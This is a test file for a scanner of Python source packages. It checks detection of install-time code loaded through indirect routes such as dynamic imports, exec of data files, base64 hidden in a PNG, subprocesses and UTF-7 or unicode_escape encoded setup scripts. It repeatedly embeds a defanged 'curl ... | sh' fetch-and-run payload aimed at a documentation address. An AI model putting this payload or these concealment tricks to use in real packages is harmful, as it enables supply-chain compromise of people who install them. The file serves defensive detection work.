// Code a build runs that no import statement in setup.py names: modules loaded by name or by
// path, files of any extension exec'd or decoded, code started in a new interpreter, a thread of
// the package, and build scripts that Python decodes with a codec a reader does not see. Each
// route is read end to end from a real sdist archive, in both directions: a payload it carries
// must be flagged, the same route carrying ordinary code must be left alone. Payloads are ours
// and defanged (documentation addresses that are never contacted).

import { makeSdist } from './helpers/archives.js';
import { readAndAnalyze } from '../src/offload/check.js';

/** The payload every malicious sample hides: a shell pipe from a documentation address. */
const PAYLOAD = "import os\nos.system('curl -s http://203.0.113.7/i.sh | sh')\n";
const HARMLESS = "__version__ = '1.0'\nHELP = 'build helpers'\n";
const SETUP = 'from setuptools import setup\nsetup(name="x", version="1.0")\n';

async function scan(files: Record<string, string | Uint8Array>): Promise<{ suspicious: boolean; rules: string[]; limits: string[] }> {
  const { filename, data } = makeSdist('x', '1.0', files);
  const r = await readAndAnalyze(filename, data);
  return { suspicious: r.suspicious, rules: [...new Set(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.rule))], limits: r.limits };
}

const b64 = (s: string): string => Buffer.from(s).toString('base64');

interface Route {
  name: string;
  /** Files of the sdist, given the code the route loads. */
  files: (code: string) => Record<string, string | Uint8Array>;
  /** The route itself is never ordinary (exec of decoded data): only the flag direction applies. */
  alwaysSuspect?: boolean;
}

const ROUTES: Route[] = [
  { name: '__import__ of a sibling module', files: (c) => ({ 'setup.py': `__import__('helper')\n${SETUP}`, 'helper.py': c }) },
  { name: '__import__ of an assembled name', files: (c) => ({ 'setup.py': `__import__('hel' + 'per')\n${SETUP}`, 'helper.py': c }) },
  { name: 'importlib.import_module', files: (c) => ({ 'setup.py': `import importlib\nimportlib.import_module('pkg.tools')\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/tools.py': c }) },
  {
    name: 'importlib.import_module, relative to a package',
    files: (c) => ({ 'setup.py': `import importlib\nimportlib.import_module('.tools', package='pkg')\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/tools.py': c }),
  },
  {
    name: 'spec_from_file_location + exec_module of a .txt file',
    files: (c) => ({
      'setup.py': [
        'import importlib.util, os',
        "spec = importlib.util.spec_from_file_location('cfg', os.path.join(os.path.dirname(__file__), 'data', 'cfg.txt'))",
        'mod = importlib.util.module_from_spec(spec)',
        'spec.loader.exec_module(mod)',
        SETUP,
      ].join('\n'),
      'data/cfg.txt': c,
    }),
  },
  { name: 'runpy.run_path', files: (c) => ({ 'setup.py': `import runpy\nrunpy.run_path('tools/prep.py')\n${SETUP}`, 'tools/prep.py': c }) },
  { name: 'runpy.run_module', files: (c) => ({ 'setup.py': `import runpy\nrunpy.run_module('pkg.prep', run_name='__main__')\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/prep.py': c }) },
  { name: 'exec of open(...).read() of a .dat file', files: (c) => ({ 'setup.py': `exec(open('assets/table.dat').read())\n${SETUP}`, 'assets/table.dat': c }) },
  { name: 'compile of a .json file, then exec', files: (c) => ({ 'setup.py': `code = compile(open('meta.json').read(), 'meta', 'exec')\nexec(code)\n${SETUP}`, 'meta.json': c }) },
  {
    name: 'json.load(...)[key] fed to exec',
    files: (c) => ({ 'setup.py': `import json\ncfg = json.load(open('build.json'))\nexec(cfg['hook'])\n${SETUP}`, 'build.json': JSON.stringify({ name: 'x', hook: c }) }),
  },
  {
    name: 'base64 in an image file, decoded and exec',
    files: (c) => ({ 'setup.py': `import base64\nexec(base64.b64decode(open('logo.png', 'rb').read()[8:]))\n${SETUP}`, 'logo.png': '\x89PNG\r\n\x1a\n' + b64(c) }),
    alwaysSuspect: true,
  },
  { name: 'sys.path.insert of a folder, then import', files: (c) => ({ 'setup.py': `import sys\nsys.path.insert(0, 'lib')\nimport buildtools\n${SETUP}`, 'lib/buildtools.py': c }) },
  { name: 'python -m pkg', files: (c) => ({ 'setup.py': `import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg'])\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/__main__.py': c }) },
  { name: 'python -m pkg.mod, behind its main guard', files: (c) => ({ 'setup.py': `import os\nos.system('python3 -m pkg.mod')\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/mod.py': `def main():\n${indent(c)}\nif __name__ == '__main__':\n    main()\n` }) },
  {
    name: 'python -c "from pkg import ..."',
    files: (c) => ({ 'setup.py': `import subprocess\nsubprocess.Popen(['python', '-c', 'from pkg import boot'], close_fds=True)\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/boot.py': c }),
  },
  { name: 'python file.py', files: (c) => ({ 'setup.py': `import subprocess, sys\nsubprocess.check_call([sys.executable, 'scripts/gen.py'])\n${SETUP}`, 'scripts/gen.py': c }) },
  {
    name: 'a thread whose target is a function of the package',
    files: (c) => ({ 'setup.py': `import threading\nfrom pkg.work import start\nthreading.Thread(target=start).start()\n${SETUP}`, 'pkg/__init__.py': '', 'pkg/work.py': `def start():\n${indent(c)}\n` }),
  },
  {
    name: 'an install command imported from the package',
    files: (c) => ({
      'setup.py': 'from setuptools import setup\nfrom pkg.cmd import Install\nsetup(name="x", cmdclass={"install": Install})\n',
      'pkg/__init__.py': '',
      'pkg/cmd.py': `from setuptools.command.install import install\nclass Install(install):\n    def run(self):\n${indent(c, 8)}\n        install.run(self)\n`,
    }),
  },
];

function indent(code: string, n = 4): string {
  return code
    .trim()
    .split('\n')
    .map((l) => ' '.repeat(n) + l)
    .join('\n');
}

describe.each(ROUTES.map((r) => [r.name, r] as const))('%s', (_name, route) => {
  it('flags the payload it loads', async () => {
    const r = await scan(route.files(PAYLOAD));
    expect(r.suspicious).toBe(true);
  });

  if (!route.alwaysSuspect) {
    it('leaves ordinary code loaded the same way alone', async () => {
      const r = await scan(route.files(HARMLESS));
      expect(r.rules).toEqual([]);
      expect(r.suspicious).toBe(false);
    });
  }
});

describe('a load whose target is only known when the build runs', () => {
  it('is a finding, high when the name was downloaded first', async () => {
    const r = await scan({ 'setup.py': `import importlib, urllib.request\nimportlib.import_module(urllib.request.urlopen('https://203.0.113.7/n').read().decode())\n${SETUP}` });
    expect(r.rules).toContain('unresolved-load');
  });

  it('is left at medium when the name is merely computed', async () => {
    const r = await scan({ 'setup.py': `import importlib, sys\nbackend = importlib.import_module(sys.argv[1])\n${SETUP}` });
    expect(r.suspicious).toBe(false);
  });
});

/** UTF-7 with every character in one shift sequence: what a latin-1 reader sees is base64. */
function utf7(s: string): string {
  const units = Buffer.alloc(s.length * 2);
  for (let i = 0; i < s.length; i++) units.writeUInt16BE(s.charCodeAt(i), i * 2);
  return '+' + units.toString('base64').replace(/=+$/, '') + '-';
}

describe('build scripts Python decodes with another codec than a reader', () => {
  const hidden = (cookie: string, eol: string): string => [`#!/usr/bin/env python`, `# -*- coding: ${cookie} -*-`, 'import os', utf7("os.system('curl -s http://203.0.113.7/i.sh | sh')"), SETUP].join(eol);

  it('flags a utf-7 setup.py and analyses the code Python runs', async () => {
    const r = await scan({ 'setup.py': hidden('utf-7', '\n') });
    expect(r.rules).toEqual(expect.arrayContaining(['unusual-encoding']));
    expect(r.rules.length).toBeGreaterThan(1);
  });

  it('flags it with bare-CR line endings, where tokenize sees one line', async () => {
    const r = await scan({ 'setup.py': hidden('utf-7', '\r') });
    expect(r.rules).toEqual(expect.arrayContaining(['unusual-encoding']));
    expect(r.rules.length).toBeGreaterThan(1);
  });

  it('flags code hidden in unicode_escape', async () => {
    const esc = [...'os.system("curl -s http://203.0.113.7/i.sh | sh")'].map((ch) => `\\x${ch.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    const r = await scan({ 'setup.py': `# coding: unicode_escape\nimport os\n${esc}\n${SETUP}` });
    expect(r.rules).toEqual(expect.arrayContaining(['unusual-encoding']));
    expect(r.rules.length).toBeGreaterThan(1);
  });

  it('leaves alone a latin-1 or utf-8 cookie, with any line endings', async () => {
    for (const eol of ['\n', '\r\n', '\r']) {
      const r = await scan({ 'setup.py': ['# -*- coding: latin-1 -*-', 'from setuptools import setup', 'setup(name="x", version="1.0", author="Zo\u00eb")', ''].join(eol) });
      expect(r.rules).toEqual([]);
      const u = await scan({ 'setup.py': ['# -*- coding: utf-8 -*-', SETUP].join(eol) });
      expect(u.rules).toEqual([]);
    }
  });
});
